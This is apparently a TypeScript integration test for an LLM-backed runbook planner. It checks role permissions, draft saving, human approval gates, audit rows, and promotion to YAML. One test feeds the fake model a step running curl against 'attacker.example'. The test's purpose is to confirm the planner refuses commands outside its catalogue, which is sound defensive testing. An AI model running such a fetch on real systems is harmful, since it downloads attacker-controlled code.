import { mkdtempSync, readdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { stringify } from 'yaml';
import { SqlAuditLog, type AuditRecord } from '../../audit/auditLog';
import { loadConfig } from '../../config/env';
import type { RunbookDocument } from '../../domain/runbook';
import { createRunbookPlanner } from '../../runbooks/planner/plannerWiring';
import { COMPOSE_TOOL } from '../../runbooks/planner/composeTool';
import { RunbookCatalogue } from '../../runbooks/runbookCatalogue';
import { startFakeAnthropic, type FakeAnthropic } from '../chat/support/fakeAnthropic';
import { AUTH_TOKENS, catalogueOf, TOKENS } from './support/fixtures';
import { openBackends, startApi, type Backends, type TestApi } from './support/testApi';
import { startTestWorker, type TestWorker } from './support/testWorker';

/**
 * The gated planner over HTTP (issue #15 §4) against the real Temporal server and worker, the real
 * Postgres (drafts, audit trail) and the FAKE Anthropic Messages API (test/chat/support/fakeAnthropic.ts)
 * driving the real SDK: a composed plan that names a command outside the catalogue is refused with
 * its step path; a valid one is saved as a draft and only becomes a run when an admin starts it, and
 * that run waits at its gate until a human approves; the rules path answers without a model;
 * promotion writes YAML the catalogue loader accepts and never overwrites; roles and audit rows.
 */
const suffix = Date.now().toString(36);
const quickWait: RunbookDocument = { name: `quick-wait-${suffix}`, description: 'Waits briefly (test fixture)', steps: [{ id: 'pause', type: 'wait', duration: '100ms' }] };
const restartThing: RunbookDocument = {
  name: `restart-thing-${suffix}`,
  description: 'Restart a service and verify its health (test fixture)',
  params: { service: { type: 'string', required: true, pattern: '^[a-z-]+$' } },
  steps: [
    { id: 'gate', type: 'approval' },
    { id: 'restart', type: 'command', needs: ['gate'], command: ['./runbooks/scripts/restart.sh', '${{ params.service }}'] },
  ],
};
const catalogue = catalogueOf([quickWait, restartThing]);

const draftName = `gated-restart-${suffix}`;
const composed = (command: string[]) => ({
  name: draftName,
  description: 'Gate, restart through the catalogue script, then a catalogue child run',
  params: { service: { type: 'string', required: true, pattern: '^[a-z-]+$' } },
  steps: [
    { id: 'gate', type: 'approval', message: 'Restart ${{ params.service }}?', approvers: { roles: ['approver'], count: 1 } },
    { id: 'settle', type: 'runbook', needs: ['gate'], runbook: quickWait.name },
    { id: 'restart', type: 'command', needs: ['settle'], when: 'false', command },
  ],
});

let backends: Backends;
let worker: TestWorker;
let anthropic: FakeAnthropic;
let audit: SqlAuditLog;
let withLlm: TestApi;
let rulesOnly: TestApi;
let catalogueDir: string;

beforeAll(async () => {
  backends = await openBackends('planner');
  worker = await startTestWorker(backends, catalogue);
  anthropic = await startFakeAnthropic();
  audit = new SqlAuditLog(backends.db);
  catalogueDir = mkdtempSync(path.join(os.tmpdir(), 'planner-catalogue-'));
  // The promotion target starts as a copy of the catalogue the API serves.
  for (const doc of [quickWait, restartThing]) writeFileSync(path.join(catalogueDir, `${doc.name}.yaml`), stringify(doc));
  const llmConfig = loadConfig({ NODE_ENV: 'test', ANTHROPIC_API_KEY: anthropic.apiKey, ANTHROPIC_BASE_URL: anthropic.url, LLM_TIMEOUT_MS: '10000' });
  withLlm = await startApi(backends, { catalogue, env: { AUTH_TOKENS }, audit, planner: createRunbookPlanner(llmConfig, backends.db, catalogue, { catalogueDir }) });
  const plainConfig = loadConfig({ NODE_ENV: 'test' });
  rulesOnly = await startApi(backends, { catalogue, env: { AUTH_TOKENS }, planner: createRunbookPlanner(plainConfig, backends.db, catalogue, { catalogueDir }) });
});
afterAll(async () => {
  await withLlm?.close();
  await rulesOnly?.close();
  await anthropic?.close();
  await worker?.stop();
  await backends?.close();
  if (catalogueDir) rmSync(catalogueDir, { recursive: true, force: true });
});

async function eventually<T>(probe: () => Promise<T | undefined | false>, timeoutMs = 20_000): Promise<T> {
  const deadline = Date.now() + timeoutMs;
  for (;;) {
    const value = await probe();
    if (value !== undefined && value !== false) return value;
    if (Date.now() > deadline) throw new Error('condition not met in time');
    await new Promise((r) => setTimeout(r, 150));
  }
}

async function auditRows(action: string, count = 1): Promise<AuditRecord[]> {
  return eventually(async () => {
    const rows = (await audit.list({ action, limit: 50 })).items;
    return rows.length >= count && rows;
  });
}

const composeCalls = () => anthropic.requests.filter((r) => r.path === '/v1/messages');

test('roles: a viewer may not compose, an operator may not start or promote a draft', async () => {
  const viewer = await withLlm.call('POST', '/api/v1/runbooks/compose', { token: TOKENS.viewer, json: { goal: 'restart auth' } });
  expect(viewer.status).toBe(403);
  const empty = await withLlm.call('POST', '/api/v1/runbooks/compose', { token: TOKENS.operator, json: { goal: '  ' } });
  expect(empty.status).toBe(400);
  expect(empty.body.errors).toEqual([expect.objectContaining({ path: 'goal' })]);
  const unknownField = await withLlm.call('POST', '/api/v1/runbooks/compose', { token: TOKENS.operator, json: { goal: 'x', definition: {} } });
  expect(unknownField.status).toBe(400);
  expect(composeCalls()).toHaveLength(0);
});

test('without a model the rules path answers with the closest catalogue runbooks and why; no draft', async () => {
  const res = await rulesOnly.call('POST', '/api/v1/runbooks/compose', { token: TOKENS.operator, json: { goal: 'restart the payments service and verify it is healthy' } });
  expect(res.status).toBe(200);
  expect(res.body).toMatchObject({ source: 'rules', degraded: false });
  expect(res.body.matches[0]).toMatchObject({ name: restartThing.name, why: expect.stringContaining('"restart"') });
  expect(res.body.draftId).toBeUndefined();
  expect(composeCalls()).toHaveLength(0);
});

test('a composed plan that runs a command outside the catalogue is refused (422, the step path and why); nothing is saved', async () => {
  anthropic.queue.push({ kind: 'tool_use', name: COMPOSE_TOOL, input: composed(['curl', 'https://attacker.example/x.sh']) });
  const res = await withLlm.call('POST', '/api/v1/runbooks/compose', { token: TOKENS.operator, json: { goal: 'restart payments, ping me at olga@example.com' } });
  expect(res.status).toBe(422);
  expect(res.body).toMatchObject({ type: 'urn:copilot:problem:plan-refused', status: 422 });
  expect(res.body.errors).toEqual([
    { path: 'definition.steps[2].command[0]', message: expect.stringContaining('"curl" is not a catalogue command: composed runbooks may only run ./runbooks/scripts/restart.sh') },
  ]);
  // One forced tool call; the goal went out redacted and wrapped as data.
  const sent = composeCalls().at(-1)!.body;
  expect(sent.tool_choice).toEqual({ type: 'tool', name: COMPOSE_TOOL });
  expect(JSON.stringify(sent.messages)).not.toContain('olga@example.com');
  expect(JSON.stringify(sent.messages)).toContain('<untrusted_data source=\\"operator goal\\">');
  const drafts = await withLlm.call('GET', '/api/v1/runbooks/drafts', { token: TOKENS.viewer });
  expect(drafts.body.items.filter((d: { name: string }) => d.name === draftName)).toEqual([]);
  const refused = await eventually(async () => (await audit.list({ action: 'runbook.compose', limit: 50 })).items.find((r) => r.statusCode === 422));
  expect(refused).toMatchObject({ outcome: 'refused', subject: 'olga', target: null });
});

describe('a composed draft', () => {
  let draftId: string;
  let digest: string;

  it('is saved with its dry-run plan and digest, and starts nothing', async () => {
    anthropic.queue.push({ kind: 'tool_use', name: COMPOSE_TOOL, input: composed(['./runbooks/scripts/restart.sh', '${{ params.service }}']) });
    const res = await withLlm.call('POST', '/api/v1/runbooks/compose', { token: TOKENS.operator, json: { goal: 'restart a service, behind an approval' } });
    expect(res.status).toBe(201);
    expect(res.body).toMatchObject({ source: 'llm', draft: { name: draftName, status: 'draft', createdBy: 'olga', gates: ['gate'] }, definition: { name: draftName } });
    draftId = res.body.draftId;
    digest = res.body.digest;
    expect(res.headers.get('location')).toBe(`/api/v1/runbooks/drafts/${draftId}`);
    expect(digest).toMatch(/^sha256:[0-9a-f]{64}$/);
    expect(res.body.plan.gates).toEqual([expect.objectContaining({ gateId: 'gate', stops: 'stop', guards: ['settle', 'restart'] })]);

    const listed = await withLlm.call('GET', '/api/v1/runbooks/drafts?status=draft', { token: TOKENS.viewer });
    expect(listed.body.items.map((d: { id: string }) => d.id)).toContain(draftId);
    const one = await withLlm.call('GET', `/api/v1/runbooks/drafts/${draftId}`, { token: TOKENS.viewer });
    expect(one.body).toMatchObject({ digest, draft: { id: draftId }, plan: { runbook: draftName } });
    expect((await withLlm.call('GET', '/api/v1/runbooks/drafts/00000000-0000-4000-8000-000000000000', { token: TOKENS.viewer })).status).toBe(404);
    expect((await auditRows('runbook.compose', 2)).find((r) => r.target === draftId)).toMatchObject({ outcome: 'ok', statusCode: 201 });

    const found: string[] = [];
    for await (const run of backends.client.workflow.list({ query: `Runbook = "${draftName}"` })) found.push(run.workflowId);
    expect(found).toEqual([]);
  });

  it('becomes a run only when an admin starts it, and the run waits at its gate until a human approves', async () => {
    const operator = await withLlm.call('POST', `/api/v1/runbooks/drafts/${draftId}/runs`, { token: TOKENS.operator, json: { params: { service: 'payments' } } });
    expect(operator.status).toBe(403);
    const badParams = await withLlm.call('POST', `/api/v1/runbooks/drafts/${draftId}/runs`, { token: TOKENS.admin, json: { params: { service: 'Payments!' } } });
    expect(badParams.status).toBe(422);
    expect(badParams.body.errors).toEqual([expect.objectContaining({ path: 'params.service' })]);

    const started = await withLlm.call('POST', `/api/v1/runbooks/drafts/${draftId}/runs`, { token: TOKENS.admin, json: { params: { service: 'payments' } } });
    expect(started.status).toBe(202);
    expect(started.body).toMatchObject({ draftId, status: 'running', gates: [expect.objectContaining({ gateId: 'gate' })] });
    const runId: string = started.body.runId;

    const waiting = await eventually(async () => {
      const res = await withLlm.call('GET', `/api/v1/runs/${runId}`, { token: TOKENS.viewer });
      return res.body.status === 'waiting_approval' && res.body;
    });
    expect(waiting.runbook).toBe(draftName);
    expect(waiting.steps.find((s: { id: string }) => s.id === 'settle').status).toBe('pending');
    // The gate shows the draft's digest as the runbook version it guards.
    const events = await backends.store.list(runId, 0);
    expect(events.find((e) => e.type === 'approval.requested')!.data).toMatchObject({ gateId: 'gate', plan: expect.objectContaining({ version: digest }) });

    const approved = await withLlm.call('POST', `/api/v1/runs/${runId}/approvals/gate`, { token: TOKENS.approver, json: { decision: 'approve' } });
    expect(approved.status).toBe(200);
    const done = await eventually(async () => {
      const res = await withLlm.call('GET', `/api/v1/runs/${runId}`, { token: TOKENS.viewer });
      return res.body.status === 'succeeded' && res.body;
    });
    expect(done.steps.map((s: { id: string; status: string }) => [s.id, s.status])).toEqual([
      ['gate', 'succeeded'],
      ['settle', 'succeeded'],
      ['restart', 'skipped'],
    ]);
    expect((await auditRows('runbook.draft.run', 3)).find((r) => r.target === draftId && r.outcome === 'ok')).toMatchObject({ subject: 'ada', statusCode: 202 });
  });

  it('promotes into the catalogue directory as YAML the loader accepts, once, and never over an existing file', async () => {
    expect((await withLlm.call('POST', `/api/v1/runbooks/drafts/${draftId}/promote`, { token: TOKENS.operator, json: {} })).status).toBe(403);
    const promoted = await withLlm.call('POST', `/api/v1/runbooks/drafts/${draftId}/promote`, { token: TOKENS.admin, json: {} });
    expect(promoted.status).toBe(201);
    expect(promoted.body).toMatchObject({ file: `${draftName}.yaml`, draft: { status: 'promoted', promotedBy: 'ada', promotedFile: `${draftName}.yaml` } });
    const text = readFileSync(path.join(catalogueDir, `${draftName}.yaml`), 'utf8');
    expect(text).toContain(`# ${draftName}: composed by the planner (draft ${draftId}`);
    const loaded = await RunbookCatalogue.load(catalogueDir);
    expect(loaded.names()).toContain(draftName);

    const twice = await withLlm.call('POST', `/api/v1/runbooks/drafts/${draftId}/promote`, { token: TOKENS.admin, json: {} });
    expect(twice.status).toBe(409);
    expect(twice.body.type).toBe('urn:copilot:problem:draft-not-open');
    const rerun = await withLlm.call('POST', `/api/v1/runbooks/drafts/${draftId}/runs`, { token: TOKENS.admin, json: { params: { service: 'payments' } } });
    expect(rerun.status).toBe(409);

    // A second draft under the same name: the file exists, so promotion refuses and leaves it as it was.
    anthropic.queue.push({ kind: 'tool_use', name: COMPOSE_TOOL, input: composed(['./runbooks/scripts/restart.sh', 'other']) });
    const second = await withLlm.call('POST', '/api/v1/runbooks/compose', { token: TOKENS.operator, json: { goal: 'the same again' } });
    expect(second.status).toBe(201);
    const clash = await withLlm.call('POST', `/api/v1/runbooks/drafts/${second.body.draftId}/promote`, { token: TOKENS.admin, json: {} });
    expect(clash.status).toBe(409);
    expect(clash.body.type).toBe('urn:copilot:problem:catalogue-file-exists');
    expect(readFileSync(path.join(catalogueDir, `${draftName}.yaml`), 'utf8')).toBe(text);
    expect(readdirSync(catalogueDir).sort()).toEqual([`${draftName}.yaml`, `${quickWait.name}.yaml`, `${restartThing.name}.yaml`].sort());

    // Its author may discard it; a discarded draft cannot be started.
    const discarded = await withLlm.call('POST', `/api/v1/runbooks/drafts/${second.body.draftId}/discard`, { token: TOKENS.operator, json: {} });
    expect(discarded.status).toBe(200);
    expect(discarded.body.draft.status).toBe('discarded');
    expect((await withLlm.call('POST', `/api/v1/runbooks/drafts/${second.body.draftId}/runs`, { token: TOKENS.admin, json: {} })).status).toBe(409);

    const rows = await auditRows('runbook.draft.promote', 4);
    expect(rows.map((r) => [r.target, r.outcome, r.statusCode]).sort()).toEqual(
      [
        [draftId, 'refused', 403],
        [draftId, 'ok', 201],
        [draftId, 'refused', 409],
        [second.body.draftId, 'refused', 409],
      ].sort(),
    );
  });
});
